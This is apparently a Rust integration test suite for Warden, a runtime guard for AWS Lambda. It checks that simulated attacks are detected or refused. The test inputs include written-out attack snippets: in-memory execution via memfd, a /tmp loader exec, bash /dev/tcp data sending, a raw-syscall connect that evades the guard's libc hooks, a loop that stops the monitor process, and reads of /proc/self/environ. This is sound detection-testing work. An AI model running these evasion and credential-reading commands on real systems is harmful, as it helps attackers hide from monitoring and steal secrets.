//! The in-process guard, loaded the way users load it: the layer's exec wrapper
//! (`AWS_LAMBDA_EXEC_WRAPPER=/opt/warden/wrapper`) preloads it into the Python runtime and
//! everything it runs; on the custom runtimes (Node.js on its own loop, bash) the function's
//! bootstrap loads it, as Lambda ignores wrappers there. Each evasion of the outside view is done by the real function and must
//! be found in real time with the right class; with a policy in `enforce` mode the forbidden
//! call fails inside the function and the invocation still completes.

// Test code: its helpers outside `#[test]` functions stop the test on a failed step too.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use serde_json::{json, Value};
use warden_sandbox::harness::{bin, draining_listener, repo_root, target_dir, Sandbox};
use warden_sandbox::outcome::Outcome;

fn quiet(i: usize) -> Value {
    json!({"delay_ms": 20 + i * 5})
}

/// The guard library, built here: cargo builds a `cdylib` for `cargo build`, not for the
/// tests of another crate, so without this the test could preload an old one.
fn guard_library() -> PathBuf {
    static BUILT: OnceLock<PathBuf> = OnceLock::new();
    BUILT
        .get_or_init(|| {
            let profile = target_dir();
            let cargo = std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into());
            let status = std::process::Command::new(cargo)
                .args(["build", "--quiet", "--lib", "-p", "warden-guard"])
                .current_dir(repo_root())
                .env("CARGO_TARGET_DIR", profile.parent().unwrap())
                .status()
                .unwrap();
            assert!(status.success(), "cargo build -p warden-guard failed");
            profile.join("libwarden_guard.so")
        })
        .clone()
}

/// Lays the layer's guard (library, language watch and exec wrapper) out where the sandbox sees it at the
/// same path; returns the wrapper.
fn place_guard(sandbox: &Sandbox) -> PathBuf {
    let dir = sandbox.shared().join("warden");
    std::fs::create_dir_all(dir.join("lib")).unwrap();
    std::fs::copy(guard_library(), dir.join("lib/libwarden_guard.so")).unwrap();
    std::fs::copy(
        repo_root().join("extension/warden-guard/watch/node-watch.js"),
        dir.join("lib/node-watch.js"),
    )
    .unwrap();
    let wrapper = dir.join("wrapper");
    std::fs::copy(bin("warden-wrapper"), &wrapper).unwrap();
    wrapper
}

fn path_text(p: &Path) -> String {
    p.to_string_lossy().into_owned()
}

/// The Python probe with Warden, its runtime started through the guard's exec wrapper.
fn guarded(policy: Option<&Value>) -> Sandbox {
    let function = Sandbox::python_probe()
        .extension("warden", bin("warden-extension"))
        .arg("--host-link");
    let wrapper = place_guard(&function);
    let mut function = function
        .env("AWS_LAMBDA_EXEC_WRAPPER", &path_text(&wrapper))
        .env(
            "WARDEN_GUARD_SOCKET",
            &format!("warden-guard-test-{}", std::process::id()),
        );
    if let Some(policy) = policy {
        let path = function.shared().join("policy.json");
        std::fs::write(&path, policy.to_string()).unwrap();
        function = function.env("WARDEN_POLICY", &path_text(&path));
    }
    function
}

fn indicators(f: &Value) -> Vec<&str> {
    f["indicators"]
        .as_array()
        .map(|v| v.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default()
}

/// A real-time finding of `class`, fired by `indicator`, whose evidence holds an item
/// matching `evidence`, for invocation `index`. Guard events are dated to an invocation by
/// the time the guard stamped them (docs/findings.md); an event stamped within a millisecond
/// or two of an invocation's start may fall to its neighbour, so the neighbours (quiet
/// invocations in these tests) count too.
fn realtime(
    out: &Outcome,
    index: usize,
    class: &str,
    indicator: &str,
    evidence: impl Fn(&Value) -> bool,
) {
    let matches = |f: &Value| {
        f["class"] == class
            && f["realtime"] == true
            && indicators(f).contains(&indicator)
            && f["evidence"]
                .as_array()
                .is_some_and(|items| items.iter().any(&evidence))
    };
    let near = [index, index + 1, index - 1];
    assert!(
        near.iter().any(|&i| out.findings_of(i).iter().any(matches)),
        "no real-time {class} finding with {indicator} near invocation {index}; findings: {:#?}\nstdout:\n{}",
        near.map(|i| out.findings_of(i)),
        out.run.stdout
    );
}

/// Whether an evidence item names a destination on `port`.
fn to(e: &Value, port: u16) -> bool {
    e["addr"]
        .as_str()
        .is_some_and(|a| a.ends_with(&format!(":{port}")))
}

fn kind(e: &Value, kind: &str) -> bool {
    e["kind"] == kind
}

const MEMFD_EXEC: &str = "import os\n\
fd = os.memfd_create('payload')\n\
os.write(fd, open('/bin/true', 'rb').read())\n\
os.execv('/proc/self/fd/%d' % fd, ['payload'])\n";

#[test]
fn what_the_outside_view_misses_the_guard_sees_in_real_time() {
    warden_sandbox::skip_without_isolation!();
    let port = draining_listener(std::time::Duration::from_millis(0));
    // Egress allowed to nothing but the Runtime API and loopback: reported, not refused.
    let policy = json!({"mode": "observe", "egress": []});
    let mut events: Vec<Value> = (0..4).map(quiet).collect();
    let first = events.len();
    // Each attack between two quiet invocations (see `realtime`).
    for (i, attack) in [
        // A connect, a send and a close, all inside one sampler period.
        json!({"send": {"host": "host.sandbox", "port": port, "bytes": 4000}}),
        // A datagram without connect.
        json!({"udp": {"host": "host.sandbox", "port": 53, "count": 1}}),
        // A program run from memory.
        json!({"spawn": ["python3", "-c", MEMFD_EXEC]}),
        // A program dropped in /tmp and run through the dynamic loader.
        json!({"spawn": ["sh", "-c", "cp /bin/true /tmp/t && exec /lib64/ld-linux-x86-64.so.2 /tmp/t"]}),
        // Warden stopped while the function works.
        json!({"stop_extension": {"ms": 300}}),
        // The role's credentials read from the runtime's memory and posted.
        json!({"send": {"host": "host.sandbox", "port": port, "environ": true}}),
    ]
    .into_iter()
    .enumerate()
    {
        events.push(attack);
        events.push(quiet(10 + i));
    }
    let out = Outcome::of(guarded(Some(&policy)), &events);
    out.assert_all_succeeded();
    assert_eq!(
        out.response(first)["send"]["sent"],
        4000,
        "{:#}",
        out.response(first)
    );
    realtime(
        &out,
        first,
        "exfiltration_egress",
        "policy_violation",
        |e| kind(e, "connect") && e["proto"] == "tcp",
    );
    realtime(
        &out,
        first + 2,
        "exfiltration_egress",
        "policy_violation",
        |e| kind(e, "send") && e["proto"] == "udp",
    );
    realtime(&out, first + 4, "dropper", "exec_from_memory", |e| {
        kind(e, "exec") && e["how"] == "memfd"
    });
    // Found by the guard's exec event or, first, by the file watch seeing /tmp/t run.
    realtime(&out, first + 6, "dropper", "exec_from_tmp", |e| {
        (kind(e, "exec") && e["how"] == "loader") || (kind(e, "program") && e["exe"] == "/tmp/t")
    });
    realtime(&out, first + 8, "tamper", "tamper", |e| kind(e, "tamper"));
    realtime(
        &out,
        first + 10,
        "credential_theft",
        "credentials_sent",
        |e| kind(e, "secret_sent") && e["encoding"] == "text",
    );
    let health = out.health();
    assert!(
        health["guard_processes_total"].as_u64().unwrap() >= 1,
        "{health:#}"
    );
    // Calls come through the ring Warden created before the runtime started.
    assert!(
        health["guard_ring_events_total"].as_u64().unwrap() >= 5,
        "{health:#}"
    );
    // The wrapper's shell, run by the platform before the runtime, is not the function's.
    assert!(
        out.init_findings().is_empty(),
        "init: {:#?}",
        out.init_findings()
    );
    for i in 0..first {
        assert!(
            out.findings_of(i).is_empty(),
            "benign {i}: {:#?}\nstdout:\n{}",
            out.findings_of(i),
            out.run.stdout
        );
    }
}

#[test]
fn enforce_refuses_inside_the_function_and_the_invocation_completes() {
    warden_sandbox::skip_without_isolation!();
    enforce_refuses_and_completes(guarded, "python3");
}

/// Runs a connect and a spawn under an enforce policy that allows no egress and only
/// `runtime` among programs: both fail inside the function, each is found in real time as a
/// denied call, and every invocation completes. `function` builds the guarded function for a
/// policy.
fn enforce_refuses_and_completes(function: impl Fn(Option<&Value>) -> Sandbox, runtime: &str) {
    let port = draining_listener(std::time::Duration::from_millis(0));
    let policy = json!({"mode": "enforce", "egress": [], "exec": [runtime]});
    let events = vec![
        quiet(0),
        json!({"connect": {"host": "host.sandbox", "port": port, "count": 2}}),
        quiet(1),
        json!({"spawn": ["sh", "-c", "true"]}),
        quiet(2),
    ];
    let out = Outcome::of(function(Some(&policy)), &events);
    out.assert_all_succeeded();
    let connect = &out.response(1)["connect"];
    assert_eq!(connect["connected"], 0, "{connect:#}");
    assert_eq!(connect["failed"], 2, "{connect:#}");
    realtime(&out, 1, "exfiltration_egress", "policy_violation", |e| {
        kind(e, "connect") && e["verdict"] == "deny"
    });
    // The exec was refused: the spawn failed in the function, which answered all the same.
    assert!(
        out.response(3)["spawn"].get("error").is_some(),
        "{:#}",
        out.response(3)
    );
    realtime(&out, 3, "command_injection", "policy_violation", |e| {
        kind(e, "exec") && e["verdict"] == "deny"
    });
}

#[test]
fn a_malformed_policy_or_no_warden_leaves_the_function_running() {
    warden_sandbox::skip_without_isolation!();
    let events: Vec<Value> = (0..3).map(quiet).collect();
    let function = guarded(None);
    let path = function.shared().join("policy.json");
    std::fs::write(&path, "{\"mode\": \"enforce\", \"egress\": [").unwrap();
    let out = Outcome::of(
        function.env("WARDEN_POLICY", &path.to_string_lossy()),
        &events,
    );
    assert!(out.run.statuses().iter().all(|s| s == "success"));
    assert!(
        out.run.stderr.contains("[warden-guard] policy"),
        "{}",
        out.run.stderr
    );
    assert!(out.health()["guard_policy_errors_total"].as_u64().unwrap() >= 1);
    // The guard without Warden (no extension in the layer): the function runs as before.
    let alone = Sandbox::python_probe();
    let wrapper = place_guard(&alone);
    let run = alone
        .env("AWS_LAMBDA_EXEC_WRAPPER", &path_text(&wrapper))
        .run(&[
            json!({"spawn": ["sh", "-c", "true"]}),
            json!({"udp": {"host": "127.0.0.1", "port": 9, "count": 1}}),
        ]);
    run.assert_ok();
    assert_eq!(run.invocations[0]["response"]["spawn"]["exit_code"], 0);
}

/// A custom-runtime function in `dir` with Warden, its own bootstrap loading the guard (Lambda
/// ignores exec wrappers on OS-only runtimes), under `policy`.
fn guarded_provided(dir: &str, policy: &Value) -> Sandbox {
    let function = Sandbox::provided(repo_root().join(dir))
        .extension("warden", bin("warden-extension"))
        .arg("--host-link");
    let wrapper = place_guard(&function);
    let library = wrapper.parent().unwrap().join("lib/libwarden_guard.so");
    let path = function.shared().join("policy.json");
    std::fs::write(&path, policy.to_string()).unwrap();
    let name = Path::new(dir).file_name().unwrap().to_string_lossy();
    function
        .env("GUARD_LIBRARY", &path_text(&library))
        .env(
            "WARDEN_GUARD_SOCKET",
            &format!("warden-guard-test-{}-{name}", std::process::id()),
        )
        .env("WARDEN_POLICY", &path_text(&path))
}

/// Each attack between two quiet invocations, after `warm` quiet ones; returns the events and
/// the index of the first attack.
fn spaced(warm: usize, attacks: Vec<Value>) -> (Vec<Value>, usize) {
    let mut events: Vec<Value> = (0..warm).map(quiet).collect();
    let first = events.len();
    for (i, attack) in attacks.into_iter().enumerate() {
        events.push(attack);
        events.push(quiet(10 + i));
    }
    (events, first)
}

const LOADER_EXEC: &str = "cp /bin/true /tmp/t && exec /lib64/ld-linux-x86-64.so.2 /tmp/t";

#[test]
fn node_on_its_own_loop_is_guarded_by_its_bootstrap() {
    warden_sandbox::skip_without_isolation!();
    let port = draining_listener(std::time::Duration::from_millis(0));
    let policy = json!({"mode": "observe", "egress": []});
    let (events, first) = spaced(
        4,
        vec![
            json!({"send": {"host": "host.sandbox", "port": port, "bytes": 4000}}),
            json!({"udp": {"host": "host.sandbox", "port": 53, "name": "c2data.example.com"}}),
            json!({"spawn": ["sh", "-c", LOADER_EXEC]}),
            json!({"stop_extension": {"ms": 300}}),
        ],
    );
    let out = Outcome::of(
        guarded_provided("tests/functions/node-guard", &policy),
        &events,
    );
    out.assert_all_succeeded();
    assert_eq!(
        out.response(first)["send"]["sent"],
        4000,
        "{:#}",
        out.response(first)
    );
    realtime(
        &out,
        first,
        "exfiltration_egress",
        "policy_violation",
        |e| kind(e, "connect") && e["proto"] == "tcp",
    );
    // libuv sends the datagram with sendmsg and an address: no connect at all.
    realtime(
        &out,
        first + 2,
        "exfiltration_egress",
        "policy_violation",
        |e| kind(e, "send") && e["proto"] == "udp",
    );
    realtime(&out, first + 4, "dropper", "exec_from_tmp", |e| {
        (kind(e, "exec") && e["how"] == "loader") || (kind(e, "program") && e["exe"] == "/tmp/t")
    });
    let stopped = &out.response(first + 6)["stop_extension"]["stopped"];
    assert!(
        stopped.as_array().is_some_and(|p| !p.is_empty()),
        "{:#}",
        out.response(first + 6)
    );
    realtime(&out, first + 6, "tamper", "tamper", |e| kind(e, "tamper"));
    let health = out.health();
    assert!(
        health["guard_processes_total"].as_u64().unwrap() >= 1,
        "{health:#}"
    );
    for i in 0..first {
        assert!(
            out.findings_of(i).is_empty(),
            "benign {i}: {:#?}\nstdout:\n{}",
            out.findings_of(i),
            out.run.stdout
        );
    }
}

#[test]
fn a_runtime_function_patched_by_an_invocation_is_found_in_that_invocation() {
    warden_sandbox::skip_without_isolation!();
    // Quiet invocations (after an init that patched console.debug, as logging set-ups do),
    // one that wraps JSON.parse and does nothing else, then quiet ones that run through it.
    let mut events: Vec<Value> = (0..6).map(quiet).collect();
    let plant = events.len();
    events.push(json!({"patch_parse": true}));
    events.extend((0..4).map(|i| quiet(10 + i)));
    let out = Outcome::of(
        guarded_provided(
            "tests/functions/node-guard",
            &json!({"mode": "observe", "egress": []}),
        ),
        &events,
    );
    out.assert_all_succeeded();
    // The wrapper runs: the runtime's loop parses every later event through it.
    assert!(
        out.response(plant + 1)["parsed"].as_u64() >= Some(1),
        "{:#}",
        out.response(plant + 1)
    );
    let found = out.findings_of(plant);
    let f = found
        .iter()
        .find(|f| {
            f["indicators"]
                .as_array()
                .is_some_and(|i| i.contains(&json!("runtime_patched")))
        })
        .unwrap_or_else(|| panic!("no runtime_patched finding: {found:#?}\n{}", out.run.stdout));
    assert_eq!(f["class"], "persistence", "{f:#}");
    assert_eq!(f["explanation"][0]["feature"], "runtime_patched", "{f:#}");
    assert!(
        f["evidence"].as_array().is_some_and(|e| e
            .iter()
            .any(|e| kind(e, "patched") && e["name"] == "JSON.parse")),
        "{f:#}"
    );
    for i in (0..events.len()).filter(|&i| i != plant) {
        assert!(
            out.findings_of(i).is_empty(),
            "quiet {i}: {:#?}\nstdout:\n{}",
            out.findings_of(i),
            out.run.stdout
        );
    }
    // The init's patch went to the init record, where it is learned, not reported.
    let init = out
        .run
        .stdout_json_with("warden_schema")
        .into_iter()
        .find(|r| r["kind"] == "init")
        .expect("an init record");
    assert!(
        init["evidence"].as_array().is_some_and(|e| e
            .iter()
            .any(|e| kind(e, "patched") && e["name"] == "console.debug")),
        "{init:#}"
    );
    assert!(
        out.init_findings()
            .iter()
            .all(|f| !f["indicators"].to_string().contains("runtime_patched")),
        "{:#?}",
        out.init_findings()
    );
}

#[test]
fn a_bash_runtime_is_guarded_by_its_bootstrap_down_to_its_builtins() {
    warden_sandbox::skip_without_isolation!();
    let port = draining_listener(std::time::Duration::from_millis(0));
    let policy = json!({"mode": "observe", "egress": []});
    // bash's /dev/tcp and /dev/udp and its `kill` are builtins: no new process to see.
    let stop_warden = "for d in /proc/[0-9]*; do read -r c < \"$d/comm\" || continue; \
                       if [ \"$c\" = warden ]; then kill -STOP \"${d#/proc/}\"; p=\"${d#/proc/}\"; fi; \
                       done 2>/dev/null; sleep 0.3; kill -CONT \"$p\"";
    let (events, first) = spaced(
        4,
        vec![
            json!({"run": format!("exec 3<>/dev/tcp/host.sandbox/{port}; printf '%4000s' x >&3; exec 3>&-")}),
            json!({"run": "printf 'q' > /dev/udp/host.sandbox/53"}),
            json!({"run": LOADER_EXEC}),
            json!({"run": stop_warden}),
        ],
    );
    let out = Outcome::of(
        guarded_provided("tests/functions/bash-guard", &policy),
        &events,
    );
    out.assert_all_succeeded();
    for i in [first, first + 2, first + 4, first + 6] {
        assert_eq!(out.response(i)["status"], 0, "{i}: {:#}", out.response(i));
    }
    realtime(
        &out,
        first,
        "exfiltration_egress",
        "policy_violation",
        |e| kind(e, "connect") && e["proto"] == "tcp",
    );
    realtime(
        &out,
        first + 2,
        "exfiltration_egress",
        "policy_violation",
        |e| kind(e, "connect") && e["proto"] == "udp",
    );
    realtime(&out, first + 4, "dropper", "exec_from_tmp", |e| {
        (kind(e, "exec") && e["how"] == "loader") || (kind(e, "program") && e["exe"] == "/tmp/t")
    });
    realtime(&out, first + 6, "tamper", "tamper", |e| kind(e, "tamper"));
    // The loop forks curl, jq, mktemp, grep, tr and cut at every invocation: new habits while
    // the environment learns, reported at low severity at most, never high.
    for i in 0..first {
        let loud: Vec<&Value> = out
            .findings_of(i)
            .iter()
            .filter(|f| f["severity"] != "low")
            .collect();
        assert!(
            loud.is_empty(),
            "benign {i}: {loud:#?}\nstdout:\n{}",
            out.run.stdout
        );
    }
}

#[test]
fn enforce_refuses_inside_node_and_the_invocation_completes() {
    warden_sandbox::skip_without_isolation!();
    // libuv reports the child's failed exec to the parent: spawnSync returns the error.
    let node = |policy: Option<&Value>| {
        guarded_provided("tests/functions/node-guard", policy.expect("a policy"))
    };
    enforce_refuses_and_completes(node, "node");
}

/// A TCP connect made with raw system calls (what a static binary or Go's runtime does): no
/// libc call for the guard to see. The connection is held 300 ms, then closed.
const RAW_CONNECT: &str = "import ctypes, os, platform, socket, struct, sys, time\n\
nr = {'x86_64': (41, 42), 'aarch64': (198, 203)}[platform.machine()]\n\
libc = ctypes.CDLL(None, use_errno=True)\n\
fd = libc.syscall(nr[0], socket.AF_INET, socket.SOCK_STREAM, 0)\n\
ip = socket.gethostbyname(sys.argv[1])\n\
addr = struct.pack('=H', socket.AF_INET) + struct.pack('!H', int(sys.argv[2])) + socket.inet_aton(ip) + bytes(8)\n\
buf = ctypes.create_string_buffer(addr, len(addr))\n\
assert libc.syscall(nr[1], fd, buf, len(addr)) == 0, ctypes.get_errno()\n\
time.sleep(0.3)\n\
os.close(fd)\n";

#[test]
fn what_bypasses_the_guard_the_outside_view_still_reports() {
    warden_sandbox::skip_without_isolation!();
    let port = draining_listener(std::time::Duration::from_millis(0));
    let policy = json!({"mode": "observe", "egress": []});
    let (events, first) = spaced(
        2,
        vec![json!({"spawn": ["python3", "-c", RAW_CONNECT, "host.sandbox", port.to_string()]})],
    );
    let out = Outcome::of(guarded(Some(&policy)).env("WARDEN_RECORDS", "1"), &events);
    assert_eq!(
        out.response(first)["spawn"]["exit_code"],
        0,
        "{:#}",
        out.response(first)
    );
    let to_port = |e: &Value| to(e, port);
    // No libc call: the guard never saw the connection.
    for i in 0..events.len() {
        for f in out.findings_of(i) {
            let evidence = f["evidence"].as_array().unwrap();
            assert!(
                !evidence.iter().any(|e| kind(e, "connect") && to_port(e)),
                "{f:#}"
            );
        }
    }
    // The sampler's socket tables still name it in the invocation's record.
    let id = out.request_id(first);
    let record = out
        .run
        .stdout_json_with("warden_schema")
        .into_iter()
        .find(|r| r["request_id"] == id.as_str())
        .unwrap_or_else(|| panic!("no record for {id}\n{}", out.run.stdout));
    assert!(
        record["evidence"]
            .as_array()
            .is_some_and(|e| e.iter().any(|o| kind(o, "endpoint") && to_port(o))),
        "{record:#}"
    );
    assert!(
        record["tcp_outbound_opens"].as_u64().unwrap() >= 1,
        "{record:#}"
    );
}

#[test]
fn precursors_lock_the_environment_down_and_the_guard_refuses_what_it_does_not_know() {
    warden_sandbox::skip_without_isolation!();
    let partner = draining_listener(std::time::Duration::from_millis(0));
    let stranger = draining_listener(std::time::Duration::from_millis(0));
    let connect = |port: u16| json!({"host": "host.sandbox", "port": port, "count": 1});
    let mut events: Vec<Value> = (0..4)
        .map(|_| json!({"connect": connect(partner), "spawn": ["/bin/true"]}))
        .collect();
    // Learned before the precursors come: the records of the invocations above are out (they
    // wait for their telemetry), and a loaded machine's late INVOKE cannot give the first
    // precursor to a learning invocation.
    events.push(json!({"delay_ms": 300}));
    let first = events.len();
    events.extend([
        // Two precursors, in two invocations: recon, then a read of a credential source.
        json!({"spawn": ["sh", "-c", "id"]}),
        json!({"spawn": ["sh", "-c", "cat /proc/self/environ > /dev/null"]}),
        // Warden takes a moment to see the precursor (a guard event waits up to 25 ms to be
        // dated); what comes after that is refused.
        json!({"delay_ms": 200}),
        json!({"connect": connect(stranger)}),
        json!({"connect": connect(partner)}),
        json!({"spawn": ["/bin/true"]}),
        json!({"spawn": ["/usr/bin/head", "-c", "1", "/dev/null"]}),
    ]);
    let out = Outcome::of(guarded(None).env("WARDEN_LOCKDOWN", "2"), &events);
    out.assert_all_succeeded();
    let lockdowns: Vec<&Value> = (0..events.len())
        .flat_map(|i| out.findings_of(i))
        .flat_map(|f| f["actions"].as_array().unwrap())
        .filter(|a| a["action"] == "lockdown")
        .collect();
    assert_eq!(lockdowns.len(), 1, "{lockdowns:#?}\n{}", out.run.stdout);
    assert_eq!(lockdowns[0]["outcome"], "taken", "{:#}", lockdowns[0]);
    // Found at the second precursor's invocation (or, dated by the guard, its neighbour).
    assert!(
        [first, first + 1, first + 2]
            .iter()
            .any(|&i| out.findings_of(i).iter().any(|f| f["actions"]
                .as_array()
                .unwrap()
                .iter()
                .any(|a| a["action"] == "lockdown"))),
        "{}",
        out.run.stdout
    );
    // A destination the function never used is refused inside it; its partner is not.
    let refused = &out.response(first + 3)["connect"];
    assert_eq!(
        (&refused["connected"], &refused["failed"]),
        (&json!(0), &json!(1)),
        "{refused:#}"
    );
    realtime(
        &out,
        first + 3,
        "exfiltration_egress",
        "policy_violation",
        |e| kind(e, "connect") && e["verdict"] == "deny",
    );
    let partner_call = &out.response(first + 4)["connect"];
    assert_eq!(partner_call["connected"], 1, "{partner_call:#}");
    // A program it runs by habit still runs; a new one is refused.
    assert_eq!(
        out.response(first + 5)["spawn"]["exit_code"],
        0,
        "{:#}",
        out.response(first + 5)
    );
    assert!(
        out.response(first + 6)["spawn"].get("error").is_some(),
        "{:#}",
        out.response(first + 6)
    );
    assert_eq!(
        out.health()["response_lockdown_total"].as_u64(),
        Some(1),
        "{:#}",
        out.health()
    );
}

#[test]
fn a_beacon_woken_by_each_thaw_is_dated_to_the_invocation_the_thaw_began() {
    warden_sandbox::skip_without_isolation!();
    let port = draining_listener(std::time::Duration::from_millis(0));
    // A thread that connects every 100 ms; the environment is frozen 400 ms between
    // invocations, so each thaw finds it overdue and it connects at once, as the invocation
    // the thaw began starts (a frozen environment does nothing in between). Each invocation
    // sleeps 20 ms, letting the thread have the interpreter: a handler that never lets go
    // of it can be frozen again before the thread runs, and that thaw shows no beat.
    let plant = json!({"beacon": {"host": "host.sandbox", "port": port, "period_ms": 100}});
    let mut events: Vec<Value> = (0..2).map(quiet).collect();
    events.push(plant);
    events.extend((0..4).map(|_| json!({"delay_ms": 20})));
    let out = Outcome::of(guarded(None).arg("--pause-ms").arg("400"), &events);
    assert_eq!(
        out.response(2)["beacon"]["started"],
        true,
        "{:#}",
        out.response(2)
    );
    let to_port = |e: &Value| kind(e, "connect") && to(e, port);
    for i in 3..events.len() {
        let id = out.request_id(i);
        let record = &out.records[&id];
        assert!(
            record["evidence"]
                .as_array()
                .is_some_and(|e| e.iter().any(to_port)),
            "invocation {i} ({id}) lost the beacon's contact at its thaw:\n{record:#}\nstdout:\n{}",
            out.run.stdout
        );
    }
}

#[test]
fn a_silent_beacon_thread_is_found_at_its_second_contact_and_named_where_it_was_planted() {
    warden_sandbox::skip_without_isolation!();
    let port = draining_listener(std::time::Duration::from_millis(0));
    // The plant's thread sleeps past its own invocation, so that invocation calls nobody:
    // only the thread it leaves running shows (one more thread kept at the next INVOKE).
    // Its contacts begin at the next thaw; the second in a row is a beacon's cadence.
    let plant = json!({"beacon": {
        "host": "host.sandbox", "port": port, "period_ms": 100, "first_after_ms": 250,
    }});
    let mut events: Vec<Value> = (0..3).map(quiet).collect();
    events.push(plant);
    events.extend((0..2).map(|_| json!({"delay_ms": 20})));
    let out = Outcome::of(guarded(None).arg("--pause-ms").arg("400"), &events);
    assert_eq!(
        out.response(3)["beacon"]["started"],
        true,
        "{:#}",
        out.response(3)
    );
    let to_port = |e: &Value| kind(e, "connect") && to(e, port);
    let contacted = |i: usize| {
        out.records[&out.request_id(i)]["evidence"]
            .as_array()
            .is_some_and(|e| e.iter().any(to_port))
    };
    assert!(
        !contacted(3),
        "the plant itself called out:\n{}",
        out.run.stdout
    );
    assert!(
        contacted(4) && contacted(5),
        "no beats:\n{}",
        out.run.stdout
    );
    out.has(
        5,
        |f| {
            f["class"] == "persistence"
                && f["indicators"]
                    .as_array()
                    .is_some_and(|i| i.iter().any(|i| i == "beaconing"))
        },
        "beaconing finding",
    );
    // The thread counts as kept by the plant's record unless the runtime started it before
    // Warden read the gauges at that INVOKE (then the record before keeps it, and the plant
    // is not named: which of the two planted it is not known).
    let threads = |i: usize| out.records[&out.request_id(i)]["threads"].as_u64();
    if threads(3) > threads(2) {
        let plant_id = out.request_id(3);
        out.has(
            5,
            |f| {
                f["earlier_requests"]
                    .as_array()
                    .is_some_and(|r| r.iter().any(|r| r == plant_id.as_str()))
            },
            "finding naming the plant",
        );
    }
}

#[test]
fn without_a_gap_between_invocations_each_keeps_its_own_guard_events() {
    warden_sandbox::skip_without_isolation!();
    let port = draining_listener(std::time::Duration::from_millis(0));
    // Back to back (no pause): the connections come a few milliseconds before the next
    // invocation starts, which must not take them.
    let events = back_to_back(port, 3, true);
    let out = Outcome::of(guarded(None).arg("--pause-ms").arg("0"), &events);
    for (i, event) in events.iter().enumerate() {
        let id = out.request_id(i);
        assert_eq!(
            record_has(&out, i, "connect", port),
            event.get("connect").is_some(),
            "invocation {i} ({id}):\n{:#}\nstdout:\n{}",
            out.records[&id],
            out.run.stdout
        );
    }
}

/// Two quiet invocations, then `pairs` of a connection to `port` and a quiet one (the
/// connection first or second), for a sandbox without pauses.
fn back_to_back(port: u16, pairs: usize, connect_first: bool) -> Vec<Value> {
    let quiet = || json!({"delay_ms": 1});
    let connect = || json!({"connect": {"host": "host.sandbox", "port": port}});
    let mut events: Vec<Value> = (0..2).map(|_| quiet()).collect();
    for _ in 0..pairs {
        if connect_first {
            events.extend([connect(), quiet()]);
        } else {
            events.extend([quiet(), connect()]);
        }
    }
    events
}

/// Whether invocation `i`'s record holds `what` evidence (`connect`, `endpoint`) to `port`.
fn record_has(out: &Outcome, i: usize, what: &str, port: u16) -> bool {
    out.records[&out.request_id(i)]["evidence"]
        .as_array()
        .is_some_and(|items| items.iter().any(|e| kind(e, what) && to(e, port)))
}

#[test]
fn a_socket_the_sampler_sees_goes_where_the_guards_call_to_it_goes() {
    warden_sandbox::skip_without_isolation!();
    let port = draining_listener(std::time::Duration::from_millis(0));
    // Back to back: each connection is the first thing its invocation does, often before
    // Warden has handled its INVOKE, while the short invocation before it has no runtimeDone
    // yet: Warden's last look at that one, or a tick, finds the socket in the table. Dated
    // by that tick it went to the quiet invocation before; the guard's call dates it.
    let events = back_to_back(port, 8, false);
    let out = Outcome::of(guarded(None).arg("--pause-ms").arg("0"), &events);
    let has = |i: usize, what: &str| record_has(&out, i, what, port);
    let mut dated_right = 0;
    for (i, event) in events.iter().enumerate() {
        let id = out.request_id(i);
        assert!(
            !has(i, "endpoint") || has(i, "connect"),
            "invocation {i} ({id}) has the socket without the call:\n{:#}\nstdout:\n{}",
            out.records[&id],
            out.run.stdout
        );
        if event.get("connect").is_some() && has(i, "connect") {
            dated_right += 1;
        }
    }
    // The calls themselves, dated by the guard's clock (an invocation that starts within a
    // millisecond of the one before may lose one to it).
    assert!(
        dated_right >= 6,
        "{dated_right} of 8\nstdout:\n{}",
        out.run.stdout
    );
}

#[test]
fn a_program_its_parent_ran_unguarded_is_named_by_its_own_hello() {
    warden_sandbox::skip_without_isolation!();
    // A shell started without the guard exports it, then runs `ps` (as a bash runtime's loop
    // that exports LD_PRELOAD after it started does): `ps` is guarded, its exec is reported
    // by nobody, and only its own hello says what it is.
    let ps_from_unguarded_shell = |args: &str| {
        json!({"run": format!(
            "LD_PRELOAD= /bin/bash -c 'export LD_PRELOAD=\"$GUARD_LIBRARY\"; ps {args} > /dev/null'"
        )})
    };
    let (events, first) = spaced(
        4,
        vec![
            ps_from_unguarded_shell("-ef"),
            ps_from_unguarded_shell("eww"),
        ],
    );
    let policy = json!({"mode": "observe", "egress": []});
    let out = Outcome::of(
        guarded_provided("tests/functions/bash-guard", &policy),
        &events,
    );
    // In the record (the loop's own /tmp files, more than its evidence holds, give way).
    let read_by = |i: usize, argv: &str| {
        let record = &out.records[&out.request_id(i)];
        let named = record["evidence"].as_array().is_some_and(|items| {
            items.iter().any(|e| {
                kind(e, "credential_read")
                    && e["reader"]["exe"]
                        .as_str()
                        .is_some_and(|x| x.ends_with("/ps"))
                    && e["reader"]["argv"] == argv
            })
        });
        assert!(named, "{i}: no read by `{argv}`:\n{record:#}");
    };
    read_by(first, "ps -ef");
    read_by(first + 2, "ps eww");
    // Listing processes reads their environments: reconnaissance, not credential theft...
    let stolen = |i: usize| {
        out.findings_of(i)
            .iter()
            .any(|f| f["class"] == "credential_theft")
    };
    assert!(
        !stolen(first),
        "{:#?}\nstdout:\n{}",
        out.findings_of(first),
        out.run.stdout
    );
    // ...printing them is taking them.
    assert!(
        stolen(first + 2),
        "{:#?}\nstdout:\n{}",
        out.findings_of(first + 2),
        out.run.stdout
    );
}
